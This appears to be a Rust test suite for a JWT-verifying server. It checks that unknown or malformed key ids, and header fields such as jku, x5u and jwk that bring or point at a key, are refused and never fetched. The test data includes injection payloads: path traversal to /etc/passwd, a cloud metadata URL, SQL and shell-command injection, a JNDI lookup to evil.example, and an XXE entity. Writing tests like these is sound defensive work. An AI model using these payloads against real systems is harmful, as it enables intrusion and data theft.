//! Key ids that no issuer gives, and members that bring a key or point at one.

use serde_json::json;
use vestibule_server::guard::Refusal;

use crate::{
    grid::{Grid, Topic, assert_all_refused},
    hostile::{signers, words},
    issuer::{Mood, TestIssuer},
    keys::{ED, Key, OTHER, P256, RSA},
    token::{claims, good, header, quoted, sign},
    world::TestApi,
};

pub const TOPICS: [Topic; 2] = [
    Topic {
        name: "key ids of nobody",
        cause: |cause| matches!(cause, Refusal::UnknownKey),
        grid: unknown,
    },
    Topic {
        name: "key ids that are no strings",
        cause: |cause| matches!(cause, Refusal::KeyId),
        grid: |issuer| {
            let values = r#"5 0 -1 1.5 null true false [] {} ["rsa"] {"rsa":1} [null]"#;
            grid_of(issuer, &words(values))
        },
    },
];

/// What reads files, asks databases, runs programs or ends strings elsewhere
/// (RFC 8725 §3.10).
const TRICKS: [&str; 36] = [
    "",
    " ",
    "\0",
    "..",
    "../../etc/passwd",
    "/dev/null",
    "/proc/self/environ",
    "C:\\Windows\\win.ini",
    "file:///dev/null",
    "http://169.254.169.254/latest/",
    "\\\\evil.example\\share",
    "' OR 1=1--",
    "' UNION SELECT 'secret",
    "\"; DROP TABLE keys",
    "1; SELECT pg_sleep(9)",
    "$(reboot)",
    "`reboot`",
    "|reboot",
    "; reboot",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%n",
    "%00",
    "%2e%2e%2f",
    "🔑",
    "<script>",
    "<!ENTITY x SYSTEM \"file:///dev/null\">",
    "*",
    "?",
    ".*",
    "\u{202e}asr",
    "null",
    "undefined",
    "0",
    "[object Object]",
    "__proto__",
];

fn grid_of(issuer: &str, values: &[String]) -> Grid {
    let mut grid = Grid::new();
    for key in signers() {
        for value in values {
            let head = header(key).set("kid", value);
            let case = format!("{} kid {value:.60}", key.alg);
            grid.push((case, sign(&head, &claims(issuer), key)));
        }
    }
    grid
}

fn unknown(issuer: &str) -> Grid {
    let mut ids: Vec<_> = TRICKS.map(str::to_owned).to_vec();
    for key in signers() {
        let id = key.kid;
        for (at, letter) in id.char_indices() {
            let (before, after) = (&id[..at], &id[at + 1..]);
            ids.push(format!("{before}{after}"));
            ids.push(format!("{before}{}{after}", letter.to_ascii_uppercase()));
            ids.push(format!("{before}{letter}{letter}{after}"));
            ids.push(format!("{before}\0{after}"));
        }
        for added in [
            " ", "\0", "\n", "\r\nX: y", "/", "%00", "\u{301}", ".json", "#",
        ] {
            ids.push(format!("{id}{added}"));
            ids.push(format!("{added}{id}"));
        }
    }
    ids.push("k".repeat(255));
    ids.push("k".repeat(256));
    ids.push("k".repeat(257));
    ids.push("k".repeat(8192));
    ids.retain(|id| signers().iter().all(|key| key.kid != id));
    let values: Vec<_> = ids.iter().map(|id| quoted(id)).collect();
    grid_of(issuer, &values)
}

/// CVE-2018-0114 and its relatives (RFC 8725 §3.10).
#[test]
fn a_key_that_the_token_brings_or_points_at_is_neither_used_nor_fetched() {
    let issuer = TestIssuer::start();
    let api = TestApi::start(&issuer);
    let attacker = TestIssuer::in_mood(Mood::Serve(json!({"keys": [OTHER.jwk()]})));
    let url = quoted(&format!("{}jwks", attacker.url));
    let members = [
        ("jku", url.clone()),
        ("x5u", url.clone()),
        ("url", url.clone()),
        ("iss", quoted(&attacker.url)),
        ("jku", quoted("file:///etc/passwd")),
        (
            "jku",
            quoted(&format!("{}jwks#{}", issuer.url, attacker.url)),
        ),
        ("jku", quoted(&attacker.url.replace("http", "HTTP"))),
        ("x5u", quoted("http://169.254.169.254/latest/")),
        ("jwk", OTHER.jwk().to_string()),
        ("jwk", OTHER.jwk_with(&json!({"kid": "rsa"})).to_string()),
        (
            "jwk",
            json!({"kty": "oct", "k": "AAAA", "kid": "rsa"}).to_string(),
        ),
        ("x5c", "[\"MIIB\"]".to_owned()),
        ("x5t", quoted("abc")),
        ("x5t#S256", quoted("abc")),
        ("epk", OTHER.public().to_string()),
        ("ppt", quoted("shaken")),
        ("trust_chain", "[\"e30.e30.AA\"]".to_owned()),
    ];
    let mut grid = Grid::new();
    for (name, value) in &members {
        for kid in ["rsa", "other", "no-such-key"] {
            let head = header(&RSA).set("kid", quoted(kid)).and(name, value);
            let token = sign(&head, &claims(&issuer.url), &OTHER);
            grid.push((format!("{name} {value:.40}, kid {kid}"), token));
        }
        let head = header(&RSA).without("kid").and(name, value);
        let token = sign(&head, &claims(&issuer.url), &OTHER);
        grid.push((format!("{name} {value:.40}, without kid"), token));
    }
    assert_all_refused(&api, &grid);
    assert_eq!(attacker.hits(), 0);
    assert_eq!(
        issuer.hits_of("/.well-known/openid-configuration"),
        issuer.fetches()
    );
    assert!(
        issuer.fetches() <= 2,
        "the first, and one for what is unknown"
    );
    assert_eq!(api.present(&good(&issuer.url, &RSA)).status, 200);
}

/// What no issuer would give: it does not print, has a quotation mark or a backslash, leads
/// out of a folder, or is longer than 1 KiB.
fn is_absurd(id: &str) -> bool {
    let ends_strings = |c: char| c.is_control() || "\"'\\\u{202e}".contains(c);
    id.contains(ends_strings) || id.contains("../") || id.len() > 1024
}

#[test]
fn ids_that_no_issuer_gives_fetch_nothing() {
    let issuer = TestIssuer::start();
    let api = TestApi::start(&issuer);
    let long = ["k".repeat(1025), "鍵".repeat(400)];
    let tricks = TRICKS.into_iter().chain(long.iter().map(String::as_str));
    let values: Vec<_> = tricks.filter(|id| is_absurd(id)).map(quoted).collect();
    assert!(values.len() > 10, "{}", values.len());
    assert_all_refused(&api, &grid_of(&issuer.url, &values));
    assert_eq!(issuer.fetches(), 1, "the first one");
}

/// RFC 7517 §4.5: any text. Each costs what any unknown id costs.
#[test]
fn every_other_id_is_looked_for() {
    let issuer = TestIssuer::start();
    let api = TestApi::start(&issuer);
    assert_eq!(api.present(&good(&issuer.url, &RSA)).status, 200);
    let long = ["k".repeat(300), "鍵".repeat(300)];
    let usual = [
        "2026-11 key",
        "{8f2c}",
        "a..b",
        "key,2",
        "#1",
        "ключ",
        "क्षि",
        "a|b",
    ];
    let ids = TRICKS.into_iter().chain(usual);
    let ids = ids.chain(long.iter().map(String::as_str));
    for (at, id) in ids.filter(|id| !is_absurd(id)).enumerate() {
        api.clock.advance(30);
        let head = header(&RSA).set("kid", quoted(id));
        let payload = claims(&issuer.url).set("exp", "1900000000");
        for _ in 0..2 {
            assert_eq!(api.present(&sign(&head, &payload, &RSA)).status, 401);
        }
        assert!(issuer.fetches() >= at + 2, "{id:?} is not looked for");
    }
}

#[test]
fn without_an_id_several_fitting_keys_are_refused() {
    let issuer = TestIssuer::in_mood(Mood::Serve(
        json!({"keys": [RSA.jwk(), OTHER.jwk(), ED.jwk()]}),
    ));
    let api = TestApi::start(&issuer);
    let anonymous = |key: &Key| {
        let token = sign(&header(key).without("kid"), &claims(&issuer.url), key);
        api.present(&token).status
    };
    assert_eq!(anonymous(&ED), 200, "one key fits");
    assert_eq!(anonymous(&RSA), 401);
    assert_eq!(anonymous(&OTHER), 401);
    assert_eq!(anonymous(&P256), 401, "none fits");
}
